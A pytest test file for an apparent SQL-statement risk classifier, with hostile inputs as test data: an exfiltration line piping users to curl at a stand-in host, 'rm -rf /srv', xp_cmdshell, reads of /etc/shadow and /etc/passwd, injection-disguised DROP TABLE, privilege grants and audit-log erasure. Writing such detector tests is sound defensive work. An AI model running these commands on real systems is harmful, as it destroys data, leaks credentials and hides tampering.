"""What statements of SQL do: by dialect, by client, in disguise, and under text made to be slow."""

from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from safetydrift.effects.boundary import Boundary
from safetydrift.effects.languages.registry import READERS
from safetydrift.effects.languages.sql import read_sql
from safetydrift.effects.languages.sql.lexer import readings
from safetydrift.effects.reading import MAX_TEXT, Reading, UnreadableError
from safetydrift.formats.catalogue_file import load_catalogue

CATALOGUE = load_catalogue()
BOUNDARY = Boundary(domains=["corp.example"])


def effect(text, catalogue=CATALOGUE):
    reading = Reading(catalogue, BOUNDARY, READERS)
    read_sql(reading, text)
    return reading.effect()


def told(text):
    found = effect(text)
    levels = "/".join(found[name] for name in ("data", "tool", "reversibility"))
    return " ".join([levels, *found.kinds])


LOOKS = "none/read_only/fully_reversible"
READS = "internal/read_only/fully_reversible"
PRIVATE = "sensitive/read_only/fully_reversible"
SECRET = "credentials/read_only/fully_reversible"  # noqa: S105
WRITES = "none/file_write/partially"
COPIES = "internal/file_write/partially"
DELETES = "none/file_write/irreversible"
DESTROYS = f"{DELETES} destructive_action"
RUNS = "internal/code_exec/partially"
RIGHTS = "none/code_exec/partially privilege_escalation"
FALSIFIES = f"{DELETES} integrity"
CONNECTS = "internal/network/irreversible"

LOOKING = [
    "SELECT 1",
    "SELECT version(), current_user",
    "VALUES (1), (2)",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM sqlite_master WHERE type = 'table'",
    "EXPLAIN SELECT * FROM users",
    "EXPLAIN DELETE FROM t",
    "SHOW TABLES",
    "SHOW GRANTS FOR CURRENT_USER",
    "SHOW CREATE TABLE users",
    "DESCRIBE users",
    "DESC users",
    "PRAGMA table_info(users)",
    "PRAGMA foreign_keys = ON",
    "USE shop",
    "SET search_path = public",
    "BEGIN",
    "BEGIN TRANSACTION",
    "START TRANSACTION READ ONLY",
    "COMMIT",
    "ROLLBACK",
    "ANALYZE t",
    "LOCK TABLE t",
    "-- DROP TABLE t",
    "/* DROP TABLE t */",
    "",
    ";;",
    "\\dt",
    "\\d users",
    ".tables",
    ".schema users",
    "SELECT 'DROP TABLE t'",
    "SELECT pg_sleep(10)",
]
READING = [
    "SELECT name FROM products",
    "SELECT a, b FROM t WHERE x IN (SELECT id FROM u) ORDER BY a LIMIT 3",
    "SELECT TOP 5 * FROM t",
    "SELECT * FROM `shop-x`.`t`",
    "SELECT COUNT(*) FROM customers",
    "SELECT COUNT(email), AVG(age) FROM customers",
    "SELECT email_verified, token_count FROM t",
    "SELECT * FROM t FOR UPDATE",
    "SELECT replace(a, 'x', 'y'), truncate(b, 2) FROM t",
    "SELECT * FROM '/data/rows.parquet'",
    "SELECT * FROM read_csv_auto('/data/rows.csv')",
    "ATTACH DATABASE '/tmp/x.db' AS x",
    ".dump",
    "EXPLAIN ANALYZE SELECT * FROM t",
    "WITH x AS (SELECT * FROM t) SELECT * FROM x",
    "SELECT a FROM t UNION ALL SELECT b FROM u",
    "SELECT sum(x) OVER (PARTITION BY y) FROM t",
]
PRIVATELY = [
    "SELECT * FROM users",
    "SELECT * FROM [dbo].[Users]",
    'SELECT "email" FROM "People"',
    "SELECT email FROM t",
    "SELECT CONCAT(first_name, ' ', last_name) FROM t",
    "SELECT COUNT(*) FROM t WHERE ssn = '123'",
    "SELECT * FROM tblCustomers",
    "SELECT salary FROM t",
    "WITH x AS (SELECT * FROM patients) SELECT * FROM x",
    "SELECT * FROM t JOIN employees e ON e.id = t.id",
    "TABLE users",
    "SELECT * FROM users\\G",
    "SELECT load_file('/etc/passwd')",
    "SELECT group_concat(name) FROM customers",
]
SECRETLY = [
    "SELECT * FROM pg_shadow",
    "SELECT user, authentication_string FROM mysql.user",
    "SELECT password_hash FROM users",
    "SELECT passwordHash FROM Users",
    "SELECT * FROM api_keys",
    "SELECT token FROM user_sessions",
    "SELECT * FROM (SELECT password FROM users) s",
    "(SELECT 1) UNION (SELECT password FROM users)",
    "SELECT 1 FROM t WHERE password LIKE 'a%'",
    "SELECT pg_read_file('/etc/shadow')",
]
WRITING = [
    "INSERT INTO t VALUES (1)",
    "INSERT INTO t (a, b) VALUES (1, 2) ON CONFLICT (a) DO UPDATE SET b = 2",
    "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 2",
    "REPLACE INTO t VALUES (1)",
    "UPDATE t SET a = 1 WHERE id = 3",
    "UPDATE t SET a = 1 LIMIT 5",
    "CREATE TABLE t (a INT)",
    "CREATE TABLE users (id INT, email TEXT, password TEXT)",
    "CREATE TEMPORARY TABLE t (a INT)",
    "CREATE INDEX i ON t (a)",
    "CREATE VIEW v AS SELECT 1",
    "ALTER TABLE t ADD COLUMN x INT",
    "ALTER TABLE t RENAME TO u",
    "ALTER TABLE t DROP CONSTRAINT c",
    "RENAME TABLE a TO b",
    "DROP TEMPORARY TABLE t",
    "DROP TABLE #tmp",
    "VACUUM",
    "REINDEX TABLE t",
    "PRAGMA writable_schema = ON",
    "SET GLOBAL max_connections = 500",
    "COMMENT ON TABLE t IS 'rows'",
]
COPYING = [
    "INSERT INTO t SELECT * FROM u",
    "CREATE TABLE t AS SELECT * FROM u",
    "SELECT a INTO b FROM t",
    "SELECT * FROM t INTO OUTFILE '/tmp/x'",
    "SELECT a INTO OUTFILE '/tmp/x' FROM t",
    "COPY t TO '/tmp/x'",
    "COPY t FROM '/tmp/x'",
    "\\copy (SELECT * FROM t) TO 'x.csv'",
    "SELECT * FROM t \\g /tmp/out",
    "VACUUM INTO '/tmp/x.db'",
    "EXPORT DATABASE '/tmp/x'",
    ".output /tmp/x\nSELECT * FROM t;",
    ".import /tmp/x.csv t",
    "COPY INTO @stage FROM t",
    "UPDATE t SET a = u.a FROM u WHERE t.id = u.id",
]
DELETING = [
    "DELETE FROM t WHERE id = 3",
    "DELETE FROM t WHERE 1 = 0",
    "DELETE FROM t LIMIT 10",
    "BEGIN; DELETE FROM t WHERE id = 1; ROLLBACK",
    "DROP INDEX i",
    "DROP VIEW v",
]
DESTROYING = [
    "DROP TABLE t",
    "drop table if exists a, b cascade",
    "DROP DATABASE d",
    "DROP SCHEMA s CASCADE",
    "DROP USER bob",
    "TRUNCATE TABLE t",
    "TRUNCATE t",
    "DELETE FROM t",
    "DELETE FROM t WHERE 1=1",
    "DELETE FROM t WHERE TRUE",
    "DELETE FROM t WHERE id = id",
    "DELETE FROM t WHERE id IS NOT NULL",
    "DELETE FROM t WHERE name LIKE '%'",
    "DELETE FROM t WHERE id > 0",
    "DELETE FROM t WHERE id = 3 OR 'a' = 'a'",
    "DELETE FROM t WHERE NOT 1 = 0",
    "UPDATE t SET a = 1",
    "UPDATE t SET a = 1 WHERE 1=1",
    "ALTER TABLE t DROP COLUMN a",
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "EXPLAIN ANALYZE DELETE FROM t",
    "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1",
    "SELECT 1; DROP TABLE t",
    "DO $$ BEGIN DROP TABLE t; END $$",
    "EXECUTE IMMEDIATE 'DROP TABLE t'",
    "EXEC('DROP TABLE t')",
    "PREPARE s FROM 'DROP TABLE t'",
    "CREATE TRIGGER g AFTER INSERT ON t BEGIN DELETE FROM u; END",
    "CREATE FUNCTION f() RETURNS int AS $$ BEGIN DROP TABLE t; END $$ LANGUAGE plpgsql",
]
TABLE = [
    ("\\! rm -rf /srv", "internal/code_exec/irreversible destructive_action"),
    (".shell rm -rf /srv", "internal/code_exec/irreversible destructive_action"),
    ("system rm -rf /srv", "internal/code_exec/irreversible destructive_action"),
    ("EXEC xp_cmdshell 'dir'", RUNS),
    ("SELECT sys_exec('ls')", RUNS),
    ("CALL p(1, 2)", RUNS),
    ("EXEC dbo.p @a = 1", RUNS),
    ("EXECUTE s", RUNS),
    ("CREATE EXTENSION plpython3u", RUNS),
    ("SELECT load_extension('/tmp/x.so')", RUNS),
    (".load ./x", RUNS),
    ("\\i script.sql", RUNS),
    ("COPY t FROM PROGRAM 'ls'", RUNS),
    ("hello world", RUNS),
    ("CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u", "none/code_exec/partially"),
    ("EXEC(@statement)", CONNECTS),
    ("EXECUTE IMMEDIATE 'DROP TABLE ' || name", f"{CONNECTS} destructive_action"),
    ("SELECT 'DROP TABLE t' \\gexec", CONNECTS),
    (
        "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- https://x.example'",
        "sensitive/network/irreversible data_leak",
    ),
    ("UNLOAD ('SELECT * FROM users') TO 's3://x/y'", "sensitive/network/irreversible data_leak"),
    ("COPY INTO 's3://x/y' FROM t", CONNECTS),
    ("COPY t FROM 's3://x/y'", "public/network/partially"),
    ("BACKUP DATABASE d TO DISK = '\\\\x.example\\share'", CONNECTS),
    ("SELECT * FROM dblink('host=x.example', 'select 1') AS t(a INT)", CONNECTS),
    ("SELECT * FROM OPENROWSET('SQLNCLI', 'x', 'select 1')", CONNECTS),
    ("CREATE SUBSCRIPTION s CONNECTION 'host=x.example' PUBLICATION p", CONNECTS),
    ("SELECT utl_http.request('http://x.example') FROM dual", "public/network/fully_reversible"),
    ("SELECT utl_http.request('http://db.corp.example') FROM dual", "internal/network/fully_reversible"),
    ("SELECT * FROM read_csv('https://x.example/x.csv')", "public/network/fully_reversible"),
    ("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "sensitive/file_write/partially"),
    ("\\copy users TO 'x.csv'", "sensitive/file_write/partially"),
    ("INSERT INTO users (name, email) VALUES ('a', 'b')", "sensitive/file_write/partially"),
    (
        "UPDATE accounts SET balance = 5 WHERE id = 3",
        "sensitive/file_write/partially unauthorised_transaction",
    ),
    ("INSERT INTO payments VALUES (1, 500)", f"{WRITES} unauthorised_transaction"),
    ("DELETE FROM users WHERE email = 'a@b.c'", "sensitive/file_write/irreversible"),
    ("MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", "internal/file_write/irreversible"),
    ("INSERT OVERWRITE TABLE t SELECT * FROM u", "internal/file_write/irreversible"),
    ("RESTORE DATABASE d FROM DISK = 'x'", "internal/file_write/irreversible"),
    ("GRANT ALL ON db.* TO 'u'@'%' WITH GRANT OPTION", RIGHTS),
    ("GRANT SELECT, UPDATE, DELETE ON t TO bob", RIGHTS),
    ("REVOKE DELETE ON t FROM bob", RIGHTS),
    ("ALTER USER postgres SUPERUSER", RIGHTS),
    ("CREATE ROLE bob SUPERUSER", RIGHTS),
    ("SET ROLE admin", RIGHTS),
    ("SET SESSION AUTHORIZATION postgres", RIGHTS),
    ("EXECUTE AS USER = 'dbo'", RIGHTS),
    ("EXEC sp_addsrvrolemember 'bob', 'sysadmin'", RIGHTS),
    ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", RIGHTS),
    ("DROP POLICY p ON t", RIGHTS),
    ("CREATE USER bob IDENTIFIED BY 'x'", "credentials/code_exec/partially privilege_escalation"),
    ("ALTER USER bob WITH PASSWORD 'x'", "credentials/code_exec/partially privilege_escalation"),
    ("UPDATE users SET role = 'admin' WHERE id = 3", "internal/file_write/partially privilege_escalation"),
    ("UPDATE users SET is_admin = true WHERE id = 3", "internal/file_write/partially privilege_escalation"),
    ("INSERT INTO user_roles VALUES (1, 'admin')", f"{WRITES} privilege_escalation"),
    ("INSERT INTO users (name, role) VALUES ('a', 'guest')", COPIES),
    ("UPDATE users SET password = 'x' WHERE id = 3", "credentials/file_write/partially privilege_escalation"),
    ("UPDATE audit_log SET actor = 'x' WHERE id = 3", FALSIFIES),
    ("DELETE FROM audit_log WHERE id = 3", FALSIFIES),
    ("INSERT INTO audit_log VALUES (1, 'x')", WRITES),
    ("DROP TRIGGER audit_changes ON t", FALSIFIES),
    ("DROP TABLE audit_log", f"{DELETES} destructive_action integrity"),
    ("SET GLOBAL general_log = 0", FALSIFIES),
    ("ALTER SYSTEM SET log_statement = 'none'", FALSIFIES),
    ("PURGE BINARY LOGS TO 'x'", FALSIFIES),
    ("ALTER TABLE t DISABLE TRIGGER ALL", FALSIFIES),
    ("TRUNCATE TABLE sessions", DESTROYS),
]


@pytest.mark.parametrize("text", LOOKING)
def test_looking_takes_nothing_in(text):
    assert told(text) == LOOKS


@pytest.mark.parametrize("text", READING)
def test_ordinary_rows_are_internal(text):
    assert told(text) == READS


@pytest.mark.parametrize("text", PRIVATELY)
def test_names_tell_records_about_persons(text):
    assert told(text) == PRIVATE


@pytest.mark.parametrize("text", SECRETLY)
def test_names_tell_secrets(text):
    assert told(text) == SECRET


@pytest.mark.parametrize("text", WRITING)
def test_what_can_be_put_back_is_partly_reversible(text):
    assert told(text) == WRITES


@pytest.mark.parametrize("text", COPYING)
def test_copies_carry_what_they_copy(text):
    assert told(text) == COPIES


@pytest.mark.parametrize("text", DELETING)
def test_bounded_deletion_is_irreversible_and_no_violation(text):
    assert told(text) == DELETES


@pytest.mark.parametrize("text", DESTROYING)
def test_unbounded_deletion_may_be_a_violation(text):
    assert told(text) == DESTROYS


@pytest.mark.parametrize(("text", "expected"), TABLE, ids=[text[:60] for text, _ in TABLE])
def test_what_a_statement_does(text, expected):
    assert told(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "SELECT 'a\\'; DROP TABLE t; --'",  # a string for MySQL, two statements for the standard
        "SELECT 'a\\''; DROP TABLE t; -- '",  # the other way round
        "SELECT 1 /*!50000 ; DROP TABLE t */",
        "SELECT 1 --1; DROP TABLE t",
        "SELECT 1 DROP TABLE t",
        "SELECT 1\nGO\nDROP TABLE t\nGO",
        "SET NOCOUNT ON DROP TABLE t",
        "IF EXISTS (SELECT 1) DROP TABLE t",
        "BEGIN TRANSACTION; DROP TABLE t; ROLLBACK",
        "SELECT 'torn; DROP TABLE t",
        "DROP/**/TABLE/**/t",
        "dRoP\tTaBlE\nt",
        "SELECT " + "(" * 2000 + "1; DROP TABLE t",
        "EXPLAIN ANALYZE " * 500 + "DELETE FROM t",
        "DECLARE x INT; BEGIN DROP TABLE t; END",
        "PREPARE s AS DELETE FROM t; EXECUTE s",
        "\\! true\nDROP TABLE t;",
        "SELECT $tag$ it's $tag$; DROP TABLE t",
        "SELECT `a;b`; DROP TABLE t",
    ],
)
def test_a_statement_is_found_in_disguise(text):
    found = effect(text)
    assert found["reversibility"] == "irreversible"
    assert "destructive_action" in found.kinds


@pytest.mark.parametrize(
    "text",
    [
        "SELECT * FROM t WHERE note = 'please DROP TABLE t'",
        'SELECT "drop table t" FROM t',
        'SELECT a AS "delete from t" FROM t',
        "SELECT * FROM t -- DELETE FROM t",
        "SELECT * FROM t /* DELETE FROM t */",
        "SELECT $$ DROP TABLE t $$ FROM t",
    ],
)
def test_what_only_looks_like_a_statement_is_none(text):
    assert told(text) == READS


def test_a_statement_that_no_dialect_takes_is_told_with_less_confidence():
    odd = effect("SELECT password FROM users PLEASE NOW AND ( THEN")
    assert odd["data"] == "credentials"
    assert odd.confidence < effect("SELECT password FROM users").confidence


def test_reasons_name_the_table():
    assert any("users" in reason for reason in effect("SELECT * FROM users").reasons)


def test_an_operator_names_tables_of_their_own():
    ours = CATALOGUE.extended(
        {
            "format": "safetydrift.catalogue/2",
            "name": "ours",
            "version": "1",
            "tables": [{"tables": ["widget"], "effect": {"data": "sensitive"}}],
            "calls": [{"language": "sql", "names": ["monthly_report"], "act": "reads"}],
        }
    )
    assert effect("SELECT * FROM widgets", ours)["data"] == "sensitive"
    assert effect("SELECT * FROM users", ours)["data"] == "sensitive"
    assert effect("CALL monthly_report()", ours)["tool"] == "read_only"


@pytest.mark.parametrize(
    ("name", "level"),
    [("tblCustomers", "sensitive"), ("customer_orders", "sensitive"), ("companies", None), ("blog", None)],
)
def test_words_of_a_table_are_found_whatever_joins_them(name, level):
    entry = CATALOGUE.tables.table(name)
    assert (entry and CATALOGUE.scales.level(entry.ranks, "data")) == level


@pytest.mark.parametrize("name", ["token_count", "password_changed_at", "email_verified", "created_at"])
def test_a_column_about_a_secret_is_none(name):
    entry = CATALOGUE.tables.column(name)
    assert entry is not None
    assert CATALOGUE.scales.level(entry.ranks, "data") == "none"


MANY_TABLES = ",".join(["SELECT * FROM t", *(f"t{n}" for n in range(8_000))])
HOSTILE = {
    "brackets": "SELECT " + "(" * 20_000,
    "quotes": "SELECT " + "''" * 20_000 + "'a",
    "comments": "/*" * 20_000,
    "comments of MySQL": "/*!1 DROP TABLE x */" * 2_000,
    "statements": "DROP TABLE x;" * 390,
    "deletions": "DELETE x " * 5_000,
    "tables": MANY_TABLES,
    "negations": "SELECT " + "NOT " * 10_000 + "1",
    "sums": "SELECT 1" + "+1" * 700,
    "cases": "SELECT " + "CASE WHEN " * 5_000,
    "explanations": "EXPLAIN ANALYZE " * 3_500,
    "calls": "load_file(" * 5_000,
    "dots": "a." * 25_000 + "b(1)",
    "strings in dollars": "".join(f"$a{n}$" for n in range(7_000)),
    "lines of clients": "\\!ls\n" * 8_000,
    "unions": "SELECT 1 UNION " * 3_000 + "SELECT 1",
    "subqueries": "(SELECT * FROM ".join(["SELECT * FROM ", *[""] * 22]) + "t" + ")" * 22,
    "conditions": " AND a = 1".join(["DELETE FROM t WHERE 1 = 1", *[""] * 300]),
    "rows": ",".join(["INSERT INTO t VALUES (0, 'a', 2.5)", *["(1, 'a', 2.5)"] * 3_000]),
    "nothing": "\0" * 50_000,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_is_read_or_refused(text):
    try:
        found = effect(text)
    except UnreadableError:
        return
    assert found.levels


def test_very_many_names_hide_something():
    assert effect(MANY_TABLES)["tool"] == "network"


def test_too_much_text_is_refused():
    with pytest.raises(UnreadableError):
        effect("-" * (MAX_TEXT + 1))
    with pytest.raises(UnreadableError):
        effect("SELECT 1;" * 500)


WORDS = st.sampled_from(
    [
        *(
            "SELECT",
            "FROM",
            "WHERE",
            "DROP",
            "TABLE",
            "DELETE",
            "UPDATE",
            "SET",
            "t",
            "users",
            "password",
            "(",
            ")",
            ";",
        ),
        *(
            ",",
            ".",
            "=",
            "1",
            "'",
            '"',
            "`",
            "--",
            "/*",
            "*/",
            "/*!",
            "$$",
            "\\!",
            "EXEC",
            "CREATE",
            "FUNCTION",
            "AS",
        ),
        *(
            "LANGUAGE",
            "plpython3u",
            "COPY",
            "TO",
            "PROGRAM",
            "INTO",
            "OUTFILE",
            "*",
            "BEGIN",
            "END",
            "GRANT",
            "\n",
        ),
        *("EXPLAIN", "ANALYZE"),
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(WORDS, max_size=25).map(" ".join))
def test_no_text_raises_anything_else(text):
    with suppress(UnreadableError):
        effect(text)


@settings(max_examples=100, deadline=None)
@given(st.lists(WORDS, max_size=12).map(" ".join))
def test_a_second_statement_never_lowers_an_effect(text):
    try:
        one, both = effect(text), effect(f"{text}\n;\nSELECT password FROM users")
    except UnreadableError:
        return
    for dimension in ("data", "tool", "reversibility"):
        levels = CATALOGUE.scales.levels(dimension)
        assert levels.index(both[dimension]) >= levels.index(one[dimension])


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_every_word_has_a_key_and_none_is_made_up(text):
    for words in readings(text):
        assert len(words.keys) == len(words.texts)
        assert all(key in {"'", '"', word.upper()} for key, word in zip(words.keys, words.texts, strict=True))
        assert words.whole or not {"'", '"'}.intersection(words.keys)
